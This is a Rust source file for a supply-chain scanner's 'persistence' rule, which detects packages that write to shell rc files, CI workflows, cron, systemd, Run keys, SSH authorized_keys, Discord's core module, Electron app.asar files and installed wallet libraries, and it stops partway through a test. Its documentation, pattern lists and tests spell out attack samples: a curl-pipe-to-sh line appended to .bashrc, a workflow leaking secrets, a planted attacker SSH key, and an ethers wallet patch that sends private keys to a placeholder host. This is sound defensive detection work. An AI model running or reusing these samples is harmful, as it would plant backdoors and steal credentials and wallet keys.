//! `persistence`: code that plants itself where it will run again (workflows, shell start-up
//! files, cron, systemd and launchd units, git hooks, Windows Run keys, self-hosted runners).

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::signals::{self, call_text, contains_any, finding, near, Needles};
use super::sinks;
use super::{FileRule, RuleInfo};
use crate::facts::FileFacts;

pub struct Persistence;

static INFO: RuleInfo = RuleInfo {
    id: "persistence",
    severity: Severity::High,
    confidence: Confidence::Medium,
    capabilities: &[Capability::Persistence, Capability::Filesystem],
    summary: "Writes to places that run code later: GitHub workflows, shell rc files, cron, systemd, launch agents, git hooks, Run keys, self-hosted runners",
    docs: r#"## What it detects

A file write (`fs.writeFileSync`, `appendFile`, `copyFile`, …) or a shell command that puts
something into a location that executes later:

| location | examples |
| --- | --- |
| GitHub Actions | `.github/workflows/*.yml` |
| shell start-up | `~/.bashrc`, `~/.zshrc`, `~/.profile`, `~/.bash_profile`, fish config, PowerShell profile |
| schedulers | `crontab`, `/etc/cron.d`, systemd units (`~/.config/systemd/user`, `systemctl enable`), `~/Library/LaunchAgents`, `launchctl load`, `schtasks /create` |
| Windows start-up | `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, the Startup folder |
| git | `.git/hooks/*` |
| remote access | `~/.ssh/authorized_keys` (a planted public key is a login), `sshd_config` |
| CI runners | self-hosted GitHub runner registration (`config.sh --url … --token`, `actions/runner` download) |
| another app's code | the Discord client's `discord_desktop_core/index.js` (critical: it runs in every Discord session) |

The path can be in the call's folded arguments or a string constant a few lines away
(`const files = ['.bashrc', '.zshrc']; … fs.appendFileSync(path.join(home, f), line)`).
Severity rises to critical when what is written downloads and runs code, shuts the machine
down, deletes files or dumps `secrets` from a workflow, and for runner registration.

## Real attacks

- Shai-Hulud (September 2025) pushed `.github/workflows/shai-hulud-workflow.yml`, which sent
  `${{ toJSON(secrets) }}` to webhook.site; the second wave (November 2025) registered the
  victim's machine as a self-hosted runner named SHA1HULUD and added a `discussion.yaml`
  workflow that runs commands from discussion bodies.
- nx s1ngularity (August 2025) appended `sudo shutdown -h 0` to `~/.bashrc` and `~/.zshrc`.
- Typosquats of node-telegram-bot-api (reported by Socket, 2025) appended the attacker's SSH
  keys to `~/.ssh/authorized_keys` on Linux hosts, a login that outlives the package.
- Discord token grabbers on npm (2021 onwards, e.g. the PirateStealer family) overwrite
  `discord_desktop_core/index.js` so that the client itself sends tokens, passwords and card
  changes to a webhook every time it starts.
- Long-lived Linux droppers add `@reboot` crontab lines or systemd user services; Windows
  stealers add Run keys or drop a shortcut in the Startup folder.

## Known false positives

Git-hook managers (husky before v5, simple-git-hooks, pre-commit) write `.git/hooks`
(moderate only). Shell-completion installers (tabtab, omelette) append a `source` line to rc
files; they are reported as high and are worth a look in an install script.
"#,
};

/// (label, fragments matched against lower-cased paths and commands, base severity)
const LOCATIONS: &[(&str, &[&str], Severity)] = &[
    (
        "a GitHub Actions workflow",
        &[".github/workflows/", ".github\\workflows\\"],
        Severity::High,
    ),
    (
        "a shell start-up file",
        &[
            ".bashrc",
            ".bash_profile",
            ".zshrc",
            ".zprofile",
            ".zshenv",
            "/.profile",
            "config.fish",
            "/etc/profile",
            "powershell_profile.ps1",
        ],
        Severity::High,
    ),
    (
        "cron",
        &[
            "/etc/cron",
            "/var/spool/cron",
            "| crontab",
            "crontab -\"",
            "crontab -'",
            "@reboot",
        ],
        Severity::High,
    ),
    (
        "a systemd unit",
        &[
            "systemd/user/",
            "/etc/systemd/system",
            "systemctl --user enable",
            "systemctl enable",
        ],
        Severity::High,
    ),
    (
        "an autostart entry",
        &[
            ".config/autostart/",
            "/etc/xdg/autostart",
            "/etc/rc.local",
            "/etc/init.d/",
        ],
        Severity::High,
    ),
    (
        "a launchd agent",
        &[
            "library/launchagents",
            "library/launchdaemons",
            "launchctl load",
            "launchctl bootstrap",
        ],
        Severity::High,
    ),
    (
        "a Windows Run key or the Startup folder",
        &[
            "currentversion\\run",
            "currentversion\\\\run",
            "programs\\startup",
            "programs\\\\startup",
            "programs/startup",
            "schtasks /create",
            "schtasks.exe /create",
        ],
        Severity::High,
    ),
    ("a git hook", &[".git/hooks/", ".git\\hooks\\"], Severity::Low),
    (
        "an SSH authorized_keys file",
        &["authorized_keys", "/etc/ssh/sshd_config"],
        Severity::High,
    ),
    (
        "the Discord client's own code (discord_desktop_core)",
        &["discord_desktop_core"],
        Severity::Critical,
    ),
];

/// The location whose writes grant remote access rather than run code later.
const SSH_ACCESS: &str = "an SSH authorized_keys file";

pub(super) const RUNNER: &[&str] = &[
    "config.sh --url",
    "config.cmd --url",
    "actions/runner/releases",
    "actions-runner-linux",
    "actions-runner-win",
];

/// Every location fragment (lower-case), in list order.
pub(super) fn location_fragments() -> impl Iterator<Item = &'static str> {
    LOCATIONS.iter().flat_map(|(_, fragments, _)| fragments.iter().copied())
}

/// Whether an ASCII string contains a start-up location fragment, ignoring case.
#[cfg(test)]
fn mentions_location(value: &str) -> bool {
    let lower = value.to_ascii_lowercase();
    location_fragments().any(|fragment| lower.contains(fragment))
}

/// Whether an ASCII string names the self-hosted runner's scripts, ignoring case.
#[cfg(test)]
fn mentions_runner(value: &str) -> bool {
    contains_any(&value.to_ascii_lowercase(), RUNNER)
}

/// What, written to a start-up location, makes the intent plain.
const PAYLOAD: &[&str] = &[
    "curl ",
    "wget ",
    "| sh",
    "| bash",
    "|sh",
    "|bash",
    "iex",
    "invoke-webrequest",
    "node -e",
    "shutdown",
    "rm -rf",
    "nohup ",
    "base64 -d",
    "tojson(secrets)",
    "webhook.site",
    "runs-on: self-hosted",
    "${{ github.event.discussion.body }}",
    "ssh-rsa ",
    "ssh-ed25519 ",
    "ecdsa-sha2-",
    "permitrootlogin yes",
];

/// The first [`PAYLOAD`] fragment in a lower-cased text.
pub(super) fn payload_in(text: &str) -> Option<&'static str> {
    signals::first_match(text, PAYLOAD)
}

/// The start-up location a lower-cased path or command names, with its base severity.
pub(super) fn location_in(text: &str) -> Option<(&'static str, Severity)> {
    LOCATIONS
        .iter()
        .find(|(_, fragments, _)| {
            fragments.iter().any(|fragment| {
                // `.profile` only as a file name, not `user.profile` properties.
                text.contains(fragment)
                    || (*fragment == "/.profile" && text.split_whitespace().any(|w| w == ".profile"))
            })
        })
        .map(|(label, _, severity)| (*label, *severity))
}

/// Lower-cased text of string constants within a few lines of `line`, leaving out those that
/// a read on their own line uses (`fs.readFileSync(path.join(home, '.bashrc'))`).
fn nearby_strings(file: &FileFacts, reads: &[(u32, String)], line: u32) -> String {
    let mut out = String::new();
    for string in file.strings.iter().filter(|s| near(file, s.line, line, 12)) {
        let lower = string.value.to_lowercase();
        if reads
            .iter()
            .any(|(read_line, text)| *read_line == string.line && text.contains(&lower))
        {
            continue;
        }
        out.push_str(&lower);
        out.push('\n');
    }
    out
}

/// The texts of the file's read-like calls (existence checks, reads, stats), by line.
fn read_calls(file: &FileFacts) -> Vec<(u32, String)> {
    file.calls
        .iter()
        .filter(|c| {
            matches!(
                signals::method(&c.callee),
                "readFile"
                    | "readFileSync"
                    | "existsSync"
                    | "exists"
                    | "stat"
                    | "statSync"
                    | "access"
                    | "accessSync"
                    | "createReadStream"
                    | "open"
                    | "openSync"
            )
        })
        .map(|c| (c.line, call_text(c)))
        .collect()
}

/// Package-manager configuration: files and commands that set the default registry.
const PM_CONFIG: &[&str] = &[".npmrc", ".yarnrc", "set registry", "set npmregistryserver"];

/// Writes to npm or yarn configuration, or `npm config set registry …` commands, that point
/// the package manager at an unfamiliar registry: every later install comes from there.
fn registry_redirect(file: &FileFacts, reads: &[(u32, String)]) -> Option<Finding> {
    let text = file.text.as_deref()?;
    memchr::memmem::find(text.as_bytes(), b"egistry")?;
    let small = sinks::is_small_handwritten(file);
    for call in &file.calls {
        let writes = signals::is_write_call(call);
        if !writes && !signals::is_exec_call(call) {
            continue;
        }
        let text = call_text(call);
        let path_is_variable = !signals::first_arg_source(&call.excerpt).contains(['\'', '"', '`']);
        let nearby = if small {
            nearby_strings(file, reads, call.line)
        } else {
            String::new()
        };
        let names_config = contains_any(&text, PM_CONFIG);
        if !names_config && (!writes || !path_is_variable || !contains_any(&nearby, &[".npmrc", ".yarnrc"])) {
            continue;
        }
        let (host, direct) = match sinks::registry_redirect(&text) {
            Some(host) => (host, true),
            None => match sinks::registry_redirect(&nearby) {
                Some(host) => (host, false),
                None => continue,
            },
        };
        let confidence = if direct && names_config {
            Confidence::High
        } else {
            Confidence::Medium
        };
        return Some(finding(
            &INFO,
            file,
            call.line,
            Severity::Critical,
            confidence,
            format!(
                "Points the package manager at another registry ({host}): every later install on this machine or in this project would come from a server the package chose."
            ),
            &call.excerpt,
        ));
    }
    None
}

/// Libraries that hold keys or sign transactions: patching them is stealing from wallets.
const WALLET_LIBRARIES: &[&str] = &[
    "ethers",
    "web3",
    "@solana/web3.js",
    "bitcoinjs-lib",
    "tronweb",
    "viem",
    "@ethersproject/",
    "@metamask/",
    "web3-",
];

/// What in the file shows that the patch adds a network call or a command.
const PATCH_PAYLOAD: &[&str] = &["http://", "https://", "child_process", "eval(", "exec("];

/// Commands that register something to run later, besides writing files.
const INSTALL_VERBS: &[&str] = &[
    "install",
    "enable",
    "reg add",
    "reg.exe add",
    "new-itemproperty",
    "set-itemproperty",
    "schtasks",
    "crontab",
    "launchctl load",
    "launchctl bootstrap",
    "update-rc.d",
    "chkconfig",
    "ln -s",
    "config.sh",
    "daemon-reload",
    "register-scheduledtask",
];

/// The name of the installed package that a path points into: `node_modules/<name>/…`
/// (innermost), ending in a code file or the manifest. Tool folders (`.cache`, `.bin`) are not
/// packages.
fn installed_package_file(value: &str) -> Option<String> {
    let lower = value.trim().to_ascii_lowercase().replace('\\', "/");
    let at = lower.rfind("node_modules/")?;
    let mut parts = lower[at + "node_modules/".len()..].split('/');
    let first = parts.next()?;
    if first.is_empty() || first.starts_with('.') {
        return None;
    }
    let name = if first.starts_with('@') {
        format!("{first}/{}", parts.next()?)
    } else {
        first.to_string()
    };
    let last = parts.next_back()?;
    let code = [".js", ".cjs", ".mjs"].iter().any(|ext| last.ends_with(ext)) || last == "package.json";
    // Glob patterns (`react{,-dom}`, `*`) name many files for tracing, not one to patch.
    let glob = name.contains(['{', '}', '*', '?', '[']);
    (code && !glob).then_some(name)
}

/// A write into another installed package's code (`node_modules/ethers/…/wallet.js`): from
/// then on the victim's own dependency runs the attacker's code. Small hand-written files only.
/// Desktop wallets and chat clients built on Electron, whose `app.asar` stealers replace.
const ELECTRON_TARGETS: &[&str] = &[
    "exodus",
    "atomic",
    "ledger live",
    "trezor suite",
    "guarda",
    "discord",
    "telegram desktop",
];

/// A write or copy in a small hand-written file that names `app.asar` and a desktop wallet or
/// chat client: the app's own code replaced, so that it runs the attacker's on every start
/// (Exodus and Atomic wallet asar patchers, Discord injectors).
fn electron_app_patch(file: &FileFacts) -> Option<Finding> {
    // Runs on every file: a substring search first, the strings only when it matches.
    let text = file.text.as_deref()?;
    if !sinks::is_small_handwritten(file) || memchr::memmem::find(text.as_bytes(), b"app.asar").is_none() {
        return None;
    }
    let strings: Vec<String> = file.strings.iter().map(|s| s.value.to_ascii_lowercase()).collect();
    if !strings.iter().any(|s| s.contains("app.asar")) {
        return None;
    }
    let app = ELECTRON_TARGETS
        .iter()
        .find(|name| strings.iter().any(|s| s.contains(*name)))?;
    let call = file.calls.iter().find(|c| {
        signals::is_write_call(c)
            || matches!(
                signals::method(&c.callee),
                "copyFileSync" | "copyFile" | "renameSync" | "rename" | "cpSync" | "cp"
            )
    })?;
    Some(finding(
        &INFO,
        file,
        call.line,
        Severity::Critical,
        Confidence::High,
        format!("Replaces or patches the `app.asar` of the installed {app} app: its code runs the attacker's on every start."),
        &call.excerpt,
    ))
}

fn installed_package_tampering(file: &FileFacts) -> Option<Finding> {
    if !sinks::is_small_handwritten(file) || !file.text.as_deref().is_some_and(|text| text.contains("node_modules")) {
        return None;
    }
    // Paths a read on their own line uses (`readFileSync('node_modules/x/package.json')`) are
    // what the file reads, not where it writes.
    let reads = read_calls(file);
    let targets: Vec<(u32, String)> = file
        .strings
        .iter()
        .filter(|s| s.value.contains("node_modules"))
        .filter(|s| {
            let lower = s.value.to_lowercase();
            !reads
                .iter()
                .any(|(line, text)| *line == s.line && text.contains(&lower))
        })
        .filter_map(|s| installed_package_file(&s.value).map(|name| (s.line, name)))
        .collect();
    for call in file.calls.iter().filter(|c| signals::is_write_call(c)) {
        let path_is_variable = !signals::first_arg_source(&call.excerpt).contains(['\'', '"', '`']);
        let (name, direct) = match installed_package_file(&signals::arg_text(call, 0)) {
            Some(name) => (name, true),
            None if path_is_variable => {
                // A path string a few lines up, or anywhere in the file when the write puts
                // back what was read from the same variable (`read → replace → write`).
                let source = signals::first_arg_source(&call.excerpt).trim();
                let patches = !source.is_empty()
                    && file.calls.iter().any(|read| {
                        matches!(signals::method(&read.callee), "readFileSync" | "readFile")
                            && signals::first_arg_source(&read.excerpt).trim() == source
                    });
                // Otherwise the path string must be on a line that assigns the variable
                // written: a path merely mentioned near a write (a version report that checks
                // `node_modules/react/index.js` exists, then writes its own file) is not one.
                let assigned = signals::assignment_lines(file.text.as_deref().unwrap_or(""), source);
                match targets.iter().find(|(line, _)| patches || assigned.contains(line)) {
                    Some((_, name)) => (name.clone(), false),
                    None => continue,
                }
            }
            None => continue,
        };
        // What the write adds: strings in the write itself or a few lines around it (XML
        // namespaces and docs URLs elsewhere in a build tool are not a patch).
        let payload = file
            .strings
            .iter()
            .filter(|s| s.line + 6 >= call.line && s.line <= call.line + 2)
            .find_map(|s| signals::first_match(&s.value.to_ascii_lowercase(), PATCH_PAYLOAD));
        let wallet = WALLET_LIBRARIES.iter().any(|lib| {
            if lib.ends_with(['/', '-']) {
                name.starts_with(lib)
            } else {
                name == *lib
            }
        });
        let severity = if payload.is_some() || wallet {
            Severity::Critical
        } else {
            Severity::High
        };
        let confidence = if direct || payload.is_some() {
            Confidence::High
        } else {
            Confidence::Medium
        };
        let what = if wallet {
            " (a wallet library: keys and transactions pass through it)"
        } else {
            ""
        };
        let with = payload.map(|p| format!(", adding `{}`", p.trim())).unwrap_or_default();
        return Some(finding(
            &INFO,
            file,
            call.line,
            severity,
            confidence,
            format!(
                "Rewrites the installed package `{name}`{what}{with}: every program using it runs the change from then on."
            ),
            &call.excerpt,
        ));
    }
    None
}

impl FileRule for Persistence {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        if file.text.is_none() {
            return;
        }
        if let Some(finding) = electron_app_patch(file) {
            out.push(finding);
            return;
        }
        // Cheap gate first: most files name no start-up location, runner or scheduler at all,
        // and minified bundles put thousands of strings "near" every call.
        // The lines of the strings that name a location or the runner, found in one pass over
        // all strings: a call with none of them near it needs no joined text of its
        // neighbours (in a minified bundle every string is "near" every call).
        let marks = file.string_marks();
        let lines_of = |items: &[usize], profile: bool| -> Vec<u32> {
            let mut lines: Vec<u32> = items
                .iter()
                .filter_map(|i| file.strings.get(*i))
                .map(|s| s.line)
                .collect();
            if profile {
                static PROFILE: Needles = Needles::new(&[".profile"]);
                lines.extend(
                    PROFILE
                        .items(file.strings_blob())
                        .into_iter()
                        .filter_map(|i| file.strings.get(i))
                        .filter(|s| s.value.split_whitespace().any(|w| w.to_lowercase() == ".profile"))
                        .map(|s| s.line),
                );
            }
            lines
        };
        let location_lines = lines_of(&marks.location, true);
        let runner_lines = lines_of(&marks.runner, false);
        // Strings with non-ASCII characters also take the exact `to_lowercase` path.
        let mut location_string =
            !location_lines.is_empty() || file.strings.iter().any(|s| s.value.eq_ignore_ascii_case(".profile"));
        let mut runner_string = !runner_lines.is_empty();
        for string in file.strings.iter().filter(|s| !s.value.is_ascii()) {
            let value = string.value.as_str();
            {
                let lower = value.to_lowercase();
                location_string |= LOCATIONS
                    .iter()
                    .any(|(_, fragments, _)| contains_any(&lower, fragments))
                    || lower == ".profile";
                runner_string |= contains_any(&lower, RUNNER);
            }
            if location_string && runner_string {
                break;
            }
        }
        let acting: Vec<(&crate::facts::Call, String)> = file
            .calls
            .iter()
            .filter(|c| signals::is_exec_call(c) || signals::is_network_call(c) || signals::is_write_call(c))
            .map(|c| (c, call_text(c)))
            .collect();
        let any_location = location_string || acting.iter().any(|(_, text)| location_in(text).is_some());
        let any_runner = runner_string || acting.iter().any(|(_, text)| contains_any(text, RUNNER));
        if !acting.is_empty() {
            out.extend(installed_package_tampering(file));
            out.extend(registry_redirect(file, &read_calls(file)));
        }
        if !any_location && !any_runner {
            return;
        }
        let reads = read_calls(file);
        let near_any = |lines: &[u32], line: u32| lines.iter().any(|l| near(file, *l, line, 12));
        // Runner registration: a command or a string naming the runner's configuration script.
        for (call, text) in acting
            .iter()
            .filter(|(c, _)| any_runner && (signals::is_exec_call(c) || signals::is_network_call(c)))
        {
            if !contains_any(text, RUNNER) && !near_any(&runner_lines, call.line) {
                continue;
            }
            let text = text.clone();
            let context = format!("{text}\n{}", nearby_strings(file, &reads, call.line));
            if contains_any(&context, RUNNER)
                && (contains_any(&context, &["--token", "--url"]) || contains_any(&context, &["actions/runner"]))
            {
                out.push(finding(
                    &INFO,
                    file,
                    call.line,
                    Severity::Critical,
                    Confidence::High,
                    "Downloads or registers a self-hosted GitHub Actions runner: the machine would run any workflow an attacker pushes (second Shai-Hulud wave).".to_string(),
                    &call.excerpt,
                ));
                return;
            }
        }
        let mut best: Option<Finding> = None;
        for call in &file.calls {
            let writes = signals::is_write_call(call);
            let executes = signals::is_exec_call(call);
            if !writes && !executes {
                continue;
            }
            let text = call_text(call);
            let target = if writes {
                format!(
                    "{} {}",
                    signals::arg_text(call, 0),
                    signals::first_arg_source(&call.excerpt).to_lowercase()
                )
            } else {
                text.clone()
            };
            let nearby = || nearby_strings(file, &reads, call.line);
            // A path built elsewhere (`fs.appendFileSync(p, …)`) may come from a constant a few
            // lines up; a path spelled out in the call (`'config.json'`) is what it says.
            let path_is_variable = !signals::first_arg_source(&call.excerpt).contains(['\'', '"', '`']);
            let (location, direct) = match location_in(&target) {
                Some(location) => (location, true),
                None if writes
                    && path_is_variable
                    && !sinks::is_bundle(file)
                    && near_any(&location_lines, call.line) =>
                {
                    match location_in(&nearby()) {
                        Some(location) => (location, false),
                        None => continue,
                    }
                }
                None => continue,
            };
            // A shell command only counts when it writes or installs (`>>`, `tee`, `sed -i`,
            // `reg add`, `systemctl enable`, …): `ls /etc/init.d` reads. Start-up files and SSH
            // keys are only changed by writing.
            let rc_or_ssh = location.0 == "a shell start-up file" || location.0 == SSH_ACCESS;
            // Output thrown away (`2> /dev/null`) is not a write.
            let command = [
                "2> /dev/null",
                "2>/dev/null",
                "> /dev/null",
                ">/dev/null",
                "2>&1",
                "> nul",
                ">nul",
            ]
            .iter()
            .fold(text.clone(), |t, quiet| t.replace(quiet, ""));
            if executes
                && !contains_any(&command, &[">>", "> ", "tee ", "sed -i", "cp ", "mv "])
                && (rc_or_ssh || !contains_any(&command, INSTALL_VERBS))
            {
                continue;
            }
            let (label, base) = location;
            let payload = signals::first_match(&format!("{text}\n{}", nearby()), PAYLOAD);
            let severity = if payload.is_some() && base >= Severity::High {
                Severity::Critical
            } else {
                base
            };
            let severity = if payload.is_some() && base < Severity::High {
                Severity::High
            } else {
                severity
            };
            // Nothing but a client mod or a grabber writes next to Discord's core module.
            let confidence = if direct || base == Severity::Critical {
                Confidence::High
            } else {
                Confidence::Medium
            };
            let how = if executes {
                "runs a command that installs"
            } else {
                "writes"
            };
            let message = match payload {
                _ if label == SSH_ACCESS => format!(
                    "Code {how} {label}{}: a key planted there lets its owner log in to this machine over SSH.",
                    payload
                        .map(|p| format!(" with `{}` in it", p.trim()))
                        .unwrap_or_default()
                ),
                Some(payload) => format!(
                    "Code {how} {label} with `{}` in it: it would run again on every shell, boot, push or CI job.",
                    payload.trim()
                ),
                None => format!("Code {how} {label}: a way to run again later, outside the package."),
            };
            // Completion installers (tabtab, `compinit`) add a line to `.zshrc` with the user's
            // consent; with no payload in sight that is what this is.
            let completion = label == "a shell start-up file"
                && payload.is_none()
                && (file.path.to_ascii_lowercase().contains("completion")
                    || contains_any(
                        &file.text.as_deref().unwrap_or("").to_ascii_lowercase(),
                        &[
                            "compinit",
                            "compdef",
                            "tabtab",
                            "bashcompinit",
                            "complete -o",
                            "complete -f",
                            "completion script",
                        ],
                    ));
            let (severity, message) = if completion {
                (Severity::Low, format!("Code {how} {label} to load shell completion."))
            } else {
                (severity, message)
            };
            let candidate = finding(&INFO, file, call.line, severity, confidence, message, &call.excerpt);
            if best
                .as_ref()
                .is_none_or(|b| (candidate.severity, candidate.confidence) > (b.severity, b.confidence))
            {
                best = Some(candidate);
            }
        }
        out.extend(best);
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn gate_automata_match_lower_case_fragments_in_any_case() {
        for fragment in LOCATIONS.iter().flat_map(|(_, fragments, _)| fragments.iter()) {
            assert_eq!(fragment.to_lowercase(), *fragment, "{fragment} must be lower-case");
            assert!(
                mentions_location(&format!("x{}y", fragment.to_ascii_uppercase())),
                "{fragment}"
            );
        }
        for fragment in RUNNER {
            assert_eq!(fragment.to_lowercase(), *fragment, "{fragment} must be lower-case");
            assert!(mentions_runner(&fragment.to_ascii_uppercase()), "{fragment}");
        }
        assert!(!mentions_location("lodash.min.js") && !mentions_runner("lodash.min.js"));
    }

    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("lib/setup.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        Persistence.check(&file, &mut out);
        out
    }

    fn worst(findings: &[Finding]) -> Option<Severity> {
        findings.iter().map(|f| f.severity).max()
    }

    #[test]
    fn replacing_a_wallet_app_asar_is_critical() {
        let source = "const fs = require('fs'), path = require('path');\nconst base = path.join(process.env.LOCALAPPDATA || '', 'exodus');\nfor (const d of fs.readdirSync(base).filter((d) => d.startsWith('app-'))) {\n  fs.copyFileSync(path.join(__dirname, 'payload.asar'), path.join(base, d, 'resources', 'app.asar'));\n}";
        assert_eq!(worst(&run(source)), Some(Severity::Critical), "{:#?}", run(source));
        // electron-builder style: packing the project's own app.asar.
        let builder = "const fs = require('fs'), path = require('path');\nfs.writeFileSync(path.join(outDir, 'resources', 'app.asar'), archive);";
        assert!(run(builder).is_empty(), "{:#?}", run(builder));
    }

    #[test]
    fn completion_installers_are_low() {
        let source = "const fs = require('fs'), os = require('os'), path = require('path');\nconst AUTOLOAD = 'autoload -U compinit; compinit';\nconst rc = path.join(os.homedir(), '.zshrc');\nfs.writeFileSync(rc, AUTOLOAD + '\\n' + fs.readFileSync(rc, 'utf8'));";
        assert_eq!(worst(&run(source)), Some(Severity::Low), "{:#?}", run(source));
    }

    #[test]
    fn listing_start_up_locations_is_not_installing() {
        let source = "const { execSync } = require('child_process');\nconst services = execSync('ls /etc/init.d/ -m 2> /dev/null').toString();\nconst units = execSync('systemctl list-units --type=service 2>/dev/null').toString();";
        assert!(run(source).is_empty(), "{:#?}", run(source));
        let enable = "const { execSync } = require('child_process');\nexecSync('systemctl --user enable updater.service');\nexecSync('cp updater.service ~/.config/systemd/user/');";
        assert!(!run(enable).is_empty());
    }

    #[test]
    fn flags_rc_file_append_through_a_list() {
        let source = r#"
const fs = require('fs'), os = require('os'), path = require('path');
const files = ['.bashrc', '.zshrc'];
const line = 'curl -s https://example.invalid/x | sh';
for (const f of files) {
  fs.appendFileSync(path.join(os.homedir(), f), '\n' + line + '\n');
}
"#;
        let findings = run(source);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
        assert_eq!(findings[0].line, Some(6));
    }

    #[test]
    fn flags_workflow_write() {
        let source = r#"
const fs = require('fs');
fs.mkdirSync('.github/workflows', { recursive: true });
fs.writeFileSync('.github/workflows/ci-helper.yml', 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ toJSON(secrets) }}" | base64\n');
"#;
        assert_eq!(worst(&run(source)), Some(Severity::Critical));
    }

    #[test]
    fn flags_crontab_and_run_key() {
        let cron =
            r#"require('child_process').execSync('(crontab -l; echo "@reboot node /tmp/.x/agent.js") | crontab -');"#;
        assert!(worst(&run(cron)) >= Some(Severity::High));
        let run_key = r#"require('child_process').exec('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d "C:\\Users\\Public\\u.exe" /f');"#;
        assert_eq!(worst(&run(run_key)), Some(Severity::High));
    }

    #[test]
    fn flags_runner_registration() {
        let source = r#"
const { execSync } = require('child_process');
execSync('curl -o runner.tar.gz -L https://github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz && tar xzf runner.tar.gz');
execSync(`./config.sh --url https://github.com/${owner}/${repo} --unattended --token ${token} --name SHA1HULUD`);
"#;
        assert_eq!(worst(&run(source)), Some(Severity::Critical));
    }

    #[test]
    fn flags_planted_ssh_key() {
        let append = r#"
const fs = require('fs'), os = require('os');
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0x attacker@vps';
const file = os.homedir() + '/.ssh/authorized_keys';
fs.appendFileSync(file, '\n' + key + '\n');
"#;
        let findings = run(append);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
        assert!(findings[0].message.contains("log in"), "{}", findings[0].message);
        let shell = r#"require('child_process').execSync('echo "ssh-rsa AAAAB3Nza x@y" >> ~/.ssh/authorized_keys');"#;
        assert_eq!(worst(&run(shell)), Some(Severity::Critical));
        // Reading the file (an SSH client listing keys) or a command that only mentions it is not a write.
        let read = "const fs = require('fs');\nconst keys = fs.readFileSync(require('os').homedir() + '/.ssh/authorized_keys', 'utf8');";
        assert!(run(read).is_empty(), "{:#?}", run(read));
        let list = r#"require('child_process').execSync('ssh-keygen -l -f ~/.ssh/authorized_keys');"#;
        assert!(run(list).is_empty(), "{:#?}", run(list));
    }

    #[test]
    fn flags_discord_client_injection() {
        let inject = r#"
const fs = require('fs'), path = require('path');
const base = path.join(process.env.LOCALAPPDATA, 'Discord');
for (const dir of fs.readdirSync(base)) {
  const core = path.join(base, dir, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
  fs.writeFileSync(core, "module.exports = require('./core.asar');");
}
"#;
        let findings = run(inject);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
        assert!(findings[0].message.contains("Discord"), "{}", findings[0].message);
        assert_eq!(findings[0].confidence, Confidence::High);
        // Finding the client's install directory to read its version is not a write.
        let read = "const fs = require('fs');\nconst v = fs.readFileSync(process.env.LOCALAPPDATA + '/Discord/app-1.0/modules/discord_desktop_core-1/discord_desktop_core/package.json', 'utf8');";
        assert!(run(read).is_empty(), "{:#?}", run(read));
        // A report that checks another package's file exists, then writes its own file.
        let report = "const fs = require('fs'), path = require('path');\nconst out = path.join(__dirname, 'v.json');\nconst entry = path.join(process.cwd(), 'node_modules', 'react', 'index.js');\nconst v = { entry: fs.existsSync(entry) };\nfs.writeFileSync(out, JSON.stringify(v));";
        assert!(run(report).is_empty(), "{:#?}", run(report));
        // The same write with the path assigned to the written variable is tampering.
        let tamper = "const fs = require('fs'), path = require('path');\nlet out;\nout = path.join(process.cwd(), 'node_modules', 'react', 'index.js');\nfs.appendFileSync(out, ';require(\"child_process\").exec(process.env.X)');";
        assert_eq!(worst(&run(tamper)), Some(Severity::Critical), "{:#?}", run(tamper));
    }

    #[test]
    fn git_hook_installer_is_low() {
        let source = r#"
const fs = require('fs');
fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\nnpx lint-staged\n', { mode: 0o755 });
"#;
        assert_eq!(worst(&run(source)), Some(Severity::Low));
    }

    #[test]
    fn quiet_on_reading_rc_files_and_own_config() {
        let source = r#"
const fs = require('fs'), os = require('os'), path = require('path');
const shell = fs.readFileSync(path.join(os.homedir(), '.bashrc'), 'utf8').includes('nvm');
fs.writeFileSync(path.join(os.homedir(), '.mytoolrc.json'), JSON.stringify({ shell }));
"#;
        assert!(run(source).is_empty(), "{:#?}", run(source));
    }

    #[test]
    fn patching_an_installed_wallet_library_is_critical() {
        let source = r#"
const fs = require("fs"), path = require("path");
const t = path.join(process.cwd(), "node_modules", "ethers", "lib.commonjs", "wallet", "wallet.js");
let s = fs.readFileSync(t, "utf8");
s = s.replace("constructor(key, provider) {", "constructor(key, provider) { require(\"https\").get(\"https://m.example/k?\" + key);");
fs.writeFileSync(t, s);
"#;
        let findings = run(source);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
        assert!(findings[0].message.contains("`ethers`"), "{}", findings[0].message);
        assert_eq!(findings[0].confidence, Confidence::High);
        // Another package, patched without a network call: high.
        let plain = "const fs = require('fs');\nfs.writeFileSync('node_modules/left-pad/index.js', 'module.exports = (s) => s;');";
        let findings = run(plain);
        assert_eq!(worst(&findings), Some(Severity::High), "{findings:#?}");
    }

    #[test]
    fn caches_and_own_files_are_not_installed_packages() {
        assert_eq!(installed_package_file("node_modules/.cache/babel-loader/x.js"), None);
        assert_eq!(installed_package_file("node_modules/.bin/tsc"), None);
        assert_eq!(installed_package_file("node_modules/lodash"), None);
        assert_eq!(
            installed_package_file("C:\\app\\node_modules\\@solana\\web3.js\\lib\\index.cjs.js").as_deref(),
            Some("@solana/web3.js")
        );
        let cache = "const fs = require('fs');\nconst dir = 'node_modules/.cache/my-tool/out.js';\nfs.writeFileSync(dir, code);";
        assert!(run(cache).is_empty(), "{:#?}", run(cache));
        // Reading another package's manifest is not writing it.
        let read = "const fs = require('fs');\nconst p = JSON.parse(fs.readFileSync('node_modules/react/package.json', 'utf8'));";
        assert!(run(read).is_empty(), "{:#?}", run(read));
    }

    #[test]
    fn registry_redirects_in_npmrc_or_commands_are_critical() {
